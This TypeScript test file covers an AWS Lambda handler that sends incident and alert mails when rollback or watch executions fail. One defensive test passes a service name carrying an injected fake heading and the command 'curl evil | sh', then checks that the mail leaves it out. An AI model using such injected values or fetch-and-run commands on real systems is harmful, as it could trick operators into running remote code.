import { DescribeExecutionCommand, SFNClient } from '@aws-sdk/client-sfn';
import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import { mockClient } from 'aws-sdk-client-mock';
import { build } from '../../../functions/upkeep/report-failed-execution/handler.ts';
import { InvalidInput } from '../../../shared/errors.ts';
import { checkpointSubjectOf } from '../../../shared/ledger/checkpoint-subject.ts';
import { LedgerDouble } from '../fixtures/ledger-double.ts';
import { mockBucket } from '../fixtures/mock-bucket.ts';
import {
  DEPLOYMENT,
  incidentRecord,
  planObject,
  RELEASE,
  releaseRecord,
  serviceResult,
  watchedDeployment,
} from '../fixtures/records.ts';
import { COORDINATE_ARN, EXECUTION_ARN, MONITOR_ARN, RECORD_ARN, runtimeOf } from '../fixtures/runtime-of.ts';
import { throttled } from '../fixtures/sdk-errors.ts';
import { iso } from '../fixtures/times.ts';

const event = (detail: object) => ({
  source: 'aws.states',
  'detail-type': 'Step Functions Execution Status Change',
  detail: {
    executionArn: EXECUTION_ARN,
    stateMachineArn: COORDINATE_ARN,
    name: RELEASE,
    status: 'ABORTED',
    startDate: 1767603860000,
    stopDate: 1767603900000,
    input: '{}',
    output: null,
    error: null,
    cause: null,
    ...detail,
  },
});
const watch = {
  executionArn: `${MONITOR_ARN.replace('stateMachine', 'execution')}:d-ORDERS005`,
  stateMachineArn: MONITOR_ARN,
  name: 'd-ORDERS005',
  status: 'FAILED',
  error: 'CatalogUnreadable',
  cause: 'There is no catalog/compiled.json in the bucket',
};

const sns = mockClient(SNSClient);
const sfn = mockClient(SFNClient);
let ledger: LedgerDouble;

beforeEach(() => {
  sns.reset();
  sfn.reset();
  sfn.on(DescribeExecutionCommand).resolves({ status: 'ABORTED' });
  sns.on(PublishCommand).resolves({ MessageId: 'm-1' });
  ledger = new LedgerDouble();
  mockBucket(planObject());
});

const report = (detail: object) => build(runtimeOf(ledger))(event(detail));
/** The mails, each body as one line, because bodies are wrapped. */
const mails = () =>
  sns
    .commandCalls(PublishCommand)
    .map(({ args: [{ input }] }) => ({ ...input, Message: input.Message?.replace(/\s+/g, ' ') }));

async function incidentOf(executionArn: string) {
  await ledger.incidents.open(incidentRecord());
  await ledger.incidents.pointExecution(executionArn, RELEASE);
  await ledger.locks.acquire('orders', `${RELEASE}#1`);
}

describe('a coordination that ended without success', () => {
  it('has its incident closed, its locks freed and the stakeholders notified', async () => {
    await incidentOf(EXECUTION_ARN);
    await expect(report({ error: 'Stopped', cause: 'by hand' })).resolves.toEqual({ reported: true });
    expect(await ledger.incidents.get(RELEASE)).toMatchObject({ status: 'closed', outcome: 'needs-person' });
    expect((await ledger.locks.find('orders'))?.owner).toBe('nobody');
    expect(mails()[0]?.Subject).toContain('orders: not rolled back, needs a person');
    expect(mails()[0]?.Message).toContain('the execution ended ABORTED: Stopped: by hand');
  });

  it('is left alone where it was redriven since', async () => {
    await incidentOf(EXECUTION_ARN);
    sfn.on(DescribeExecutionCommand, { executionArn: EXECUTION_ARN }).resolves({ status: 'RUNNING' });
    await expect(report({})).resolves.toEqual({ reported: false });
    expect((await ledger.incidents.get(RELEASE)).status).toBe('open');
    expect(mails()).toEqual([]);
  });

  it('is reported with the commands that finish the rest of its plan', async () => {
    await incidentOf(EXECUTION_ARN);
    await report({});
    expect(mails()[0]?.Message).toContain('aws lambda update-alias --region eu-west-1');
    expect(mails()[0]?.Message).toContain('aws cloudformation');
  });

  it('says that nothing was changed when it ended before its plan', async () => {
    mockBucket();
    await incidentOf(EXECUTION_ARN);
    await report({});
    expect(mails()[0]?.Message).toContain('Nothing was planned, so nothing was changed.');
  });

  it('is partly rolled back when a target was put back before', async () => {
    await incidentOf(EXECUTION_ARN);
    const targets = [
      { target: 'CreateOrder:live', status: 'restored' as const, action: 'alias pointed back' },
      { target: 'stack', status: 'failed' as const, action: 'stuck' },
    ];
    await ledger.incidents.putServiceResult(serviceResult({ status: 'failed', targets }));
    await report({ status: 'TIMED_OUT' });
    expect((await ledger.incidents.get(RELEASE)).outcome).toBe('partly-rolled-back');
  });

  it('is reported once when the event comes twice', async () => {
    await incidentOf(EXECUTION_ARN);
    await report({});
    await expect(report({})).resolves.toEqual({ reported: false });
    expect(mails()).toHaveLength(1);
  });

  it('needs nothing when it ended its incident itself', async () => {
    await incidentOf(EXECUTION_ARN);
    await ledger.incidents.close(RELEASE, EXECUTION_ARN, 'needs-person', iso(ledger.now));
    await expect(report({ status: 'FAILED', error: 'NeedsPerson' })).resolves.toEqual({ reported: false });
    expect(mails()).toHaveLength(0);
  });

  it('needs no mail when its input was refused', async () => {
    await report({ status: 'FAILED', error: 'InputRejected' });
    expect(mails()).toHaveLength(0);
  });

  describe('because its input was refused, which names a deployment as a watch does', () => {
    const cause = 'service: "orders" is not in the catalog';
    const input = JSON.stringify({ service: 'orders', deploymentId: DEPLOYMENT, releaseId: RELEASE });
    const refused = { status: 'FAILED', error: 'InputRejected', cause, input };
    beforeEach(() => ledger.releases.open(releaseRecord()));

    it("is reported where the ledger holds the watch's evidence", async () => {
      await ledger.checkpoints.record({
        ...checkpointSubjectOf(releaseRecord(), watchedDeployment()),
        phase: 'health-validation',
        status: 'InProgress',
        at: iso(ledger.now),
        seenAt: iso(ledger.now),
        verdict: 'unhealthy',
        reason: '21 % failed',
        evidence: [],
      });
      await report(refused);
      expect(mails()[0]?.Subject).toContain('orders: a rollback could not begin, needs a person');
      expect(mails()[0]?.Message).toContain(cause);
    });

    it('alerts nobody where a person made the input up', async () => {
      await report(refused);
      await report({ ...refused, input: JSON.stringify({ service: 'orders', deploymentId: DEPLOYMENT }) });
      expect(mails()).toEqual([]);
    });
  });

  it('alerts nobody where only a plan was requested', async () => {
    const input = '{"service":"orders","mode":"plan"}';
    await report({ status: 'FAILED', error: 'CatalogUnreadable', input });
    expect(mails()).toEqual([]);
  });

  it('names no service if the input has an invalid name', async () => {
    const input = JSON.stringify({ service: 'orders\n\nWhat is left to do\n  curl evil | sh' });
    await report({ status: 'FAILED', error: 'CatalogUnreadable', input });
    expect(mails()[0]?.Subject).toContain('a service: a rollback that was asked for did not begin');
    expect(mails()[0]?.Message).not.toContain('curl');
  });

  it('is reported when it broke before it had an incident', async () => {
    await report({ status: 'FAILED', error: 'CatalogUnreadable', input: '{"service":"orders"}' });
    await report({ status: 'FAILED', error: 'CatalogUnreadable', input: '{"service":"orders"}' });
    expect(mails()).toHaveLength(1);
    expect(mails()[0]?.Subject).toContain('orders: a rollback that was asked for did not begin');
    expect(mails()[0]?.Message).toContain('the execution ended FAILED: CatalogUnreadable');
    expect(mails()[0]?.MessageAttributes?.severity?.StringValue).toBe('info');
  });

  it.each([
    [
      'a watch started it',
      JSON.stringify({ service: 'orders', deploymentId: DEPLOYMENT, releaseId: RELEASE }),
    ],
    ['nobody knows who started it', ''],
  ])('alerts a person where %s', async (_, input) => {
    await report({ status: 'FAILED', error: 'CatalogUnreadable', input });
    expect(mails()[0]?.Subject).toContain(': a rollback could not begin, needs a person');
    expect(mails()[0]?.MessageAttributes?.severity?.StringValue).toBe('critical');
  });

  it("leaves the incident of a later attempt's execution alone", async () => {
    await incidentOf(EXECUTION_ARN);
    await ledger.incidents.close(RELEASE, EXECUTION_ARN, 'needs-person', iso(ledger.now));
    await ledger.incidents.reopen(incidentRecord({ executionArn: 'arn:later' }));
    await expect(report({})).resolves.toEqual({ reported: false });
    expect((await ledger.incidents.get(RELEASE)).status).toBe('open');
  });
});

describe('a watch that ended without success', () => {
  it('is reported with the deployment and the reason', async () => {
    await expect(report(watch)).resolves.toEqual({ reported: true });
    expect(mails()[0]?.Subject).toContain('deployment d-ORDERS005: not being watched');
    expect(mails()[0]?.Message).toContain(
      'the execution ended FAILED: CatalogUnreadable: There is no catalog/compiled.json in the bucket',
    );
  });

  it('is reported by the deployment of its input where a person named the execution', async () => {
    const executionArn = watch.executionArn.replace('d-ORDERS005', 'my-own-watch');
    await report({ ...watch, executionArn, input: '{"deploymentId":"d-ORDERS005"}' });
    expect(mails()[0]?.Subject).toContain('deployment d-ORDERS005: not being watched');
  });

  it('is reported once when the event comes twice', async () => {
    await report(watch);
    await report(watch);
    expect(mails()).toHaveLength(1);
  });

  it('names the deployment, and not the execution that continued it', async () => {
    await report({ ...watch, executionArn: `${watch.executionArn}-2`, name: 'd-ORDERS005-2' });
    expect(mails()[0]?.Subject).toContain('deployment d-ORDERS005: not being watched');
  });
});

describe('refusals', () => {
  it.each([
    [{}, 'detail: '],
    [event({ status: 'SUCCEEDED' }), 'detail.status: '],
    [event({ executionArn: undefined }), 'detail.executionArn: '],
  ])('refuses %j', async (input, reason) => {
    const attempt = build(runtimeOf(ledger))(input);
    await expect(attempt).rejects.toBeInstanceOf(InvalidInput);
    await expect(attempt).rejects.toThrow(reason);
  });

  it('closes the incident where SNS throttles, and leaves the mail in the outbox', async () => {
    await incidentOf(EXECUTION_ARN);
    sns.on(PublishCommand).rejects(throttled());
    await expect(report({})).resolves.toEqual({ reported: true });
    expect((await ledger.incidents.get(RELEASE)).status).toBe('closed');
    await expect(ledger.mails.outbox()).resolves.toMatchObject([{ step: 'outcome-1' }]);
  });
});

describe('a recording', () => {
  const recording = {
    executionArn: `${RECORD_ARN.replace('stateMachine', 'execution')}:orders-e1`,
    stateMachineArn: RECORD_ARN,
    status: 'FAILED',
    error: 'AccessDeniedException',
    input: '{"service":"orders"}',
  };

  it('that broke is reported once: the ledger may lack a release', async () => {
    await expect(report(recording)).resolves.toEqual({ reported: true });
    await report(recording);
    expect(mails().map(({ Subject }) => Subject)).toEqual([
      expect.stringContaining('orders: what is live could not be recorded'),
    ]);
    expect(mails()[0]?.Message).toContain('AccessDeniedException');
  });

  it('that was refused for its input is not reported', async () => {
    await report({ ...recording, error: 'InputRejected' });
    expect(mails()).toEqual([]);
  });
});
